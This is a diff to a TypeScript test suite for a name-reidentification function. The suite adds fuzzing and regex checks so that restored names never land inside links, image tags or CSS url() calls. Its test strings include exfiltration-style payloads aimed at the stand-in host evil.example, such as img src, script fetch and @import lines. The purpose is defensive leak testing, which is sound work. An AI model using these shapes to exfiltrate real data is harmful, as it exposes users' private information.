@@ -1,3 +1,4 @@
+import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { newBook } from '../deidentify.fixture.ts'
 import { restoreText } from '../reidentify.ts'
@@ -90,6 +91,8 @@ const SHAPES: readonly string[] = [
   '<script>fetch("x" + "CODE")</script>',
   '<STYLE>a { src: image-set("https://evil.example/ CODE") }</STYLE>',
   '<https://evil.example/|CODE>',
+  '<a https://evil.example/>CODE',
+  '<img src="https://evil.example/">CODE',
   '\\href{https://evil.example/?}{CODE}',
   '{"url":"https://evil.example/CODE"}',
   'https://evil.example/\u00a0CODE',
@@ -101,6 +104,25 @@ const SHAPES: readonly string[] = [
   'background:url( "https://evil.example/CODE")',
   'URL(\nhttps://evil.example/CODE)',
   '@import "https://evil.example/CODE"',
+]
+
+const URL_SCRAPS = 'https://evil.example/ www. // ?q= &b= .evil.example @ . : / x - , " \' ='.split(' ')
+const MARKUP_SCRAPS = [
+  ' ',
+  '\n',
+  '\u00a0',
+  '\u200b',
+  '*',
+  '[x](',
+  '[x]',
+  '[1]: ',
+  '(',
+  ')',
+  '<',
+  '<img src="',
+  '<a ',
+  '>',
+  'url(',
 ]
 
 describe('an answer never carries a name out', () => {
@@ -120,6 +142,27 @@ describe('an answer never carries a name out', () => {
     }
   })
 
+  it('whatever is put together', () => {
+    const scraps = fc.constantFrom(...URL_SCRAPS, ...MARKUP_SCRAPS, code, code)
+    // Read with other eyes than the scanner's: what a renderer would make of the text that went out.
+    const links: RegExp[] = [
+      /(?:https?:\/\/|www\.)[^ \n<]*Zephyrine/,
+      /(?:^|[ \n"=])\/\/[^ \n<]*Zephyrine/,
+      /Zephyrine[\w*\u200b-]*[.@](?!Zephyrine)\w/,
+      /\]\((?:[^()\n]|\n(?!\n))*Zephyrine/,
+      /<(?:img|a) [^>]*Zephyrine/,
+      /^ {0,3}\[[^\]\n]+\]: ?\n?[^\n ]*Zephyrine/m,
+      /url\([^)\n]*Zephyrine/,
+    ]
+    fc.assert(
+      fc.property(fc.array(scraps, { maxLength: 14 }), (parts) => {
+        const out = restoreText(parts.join(''), book).text
+        for (const link of links) expect(out).not.toMatch(link)
+      }),
+      { seed: 7, numRuns: 3_000 },
+    )
+  })
+
   it('parts a restored name from a host that follows later in the word', () => {
     expect(restoreText(`${code}-led.evil.example`, book).text).toBe('Zephyrine-led .evil.example')
     expect(restoreText(`${code}s.evil.example`, book).text).toBe('Zephyrines .evil.example')
@@ -137,6 +180,7 @@ describe('an answer never carries a name out', () => {
 const PROSE: readonly (readonly [written: string, restored: string])[] = [
   ['CODE', 'Zephyrine'],
   ['CODE.', 'Zephyrine.'],
+  ['CODE.[1]', 'Zephyrine.[1]'],
   ['CODE. Then', 'Zephyrine. Then'],
   ['CODE: seen', 'Zephyrine: seen'],
   ['**CODE**: seen', '**Zephyrine**: seen'],
@@ -165,6 +209,7 @@ const PROSE: readonly (readonly [written: string, restored: string])[] = [
   ['Tel:CODE', 'Tel:Zephyrine'],
   [`${'a,'.repeat(3_000)}CODE`, `${'a,'.repeat(3_000)}Zephyrine`],
   ['<p>x</p>CODE', '<p>x</p>Zephyrine'],
+  ['<td class="x">CODE</td>', '<td class="x">Zephyrine</td>'],
   ['<script>x</script>CODE', '<script>x</script>Zephyrine'],
   ['p <b and c\n\nCODE', 'p <b and c\n\nZephyrine'],
   ['a.m. CODE', 'a.m. Zephyrine'],
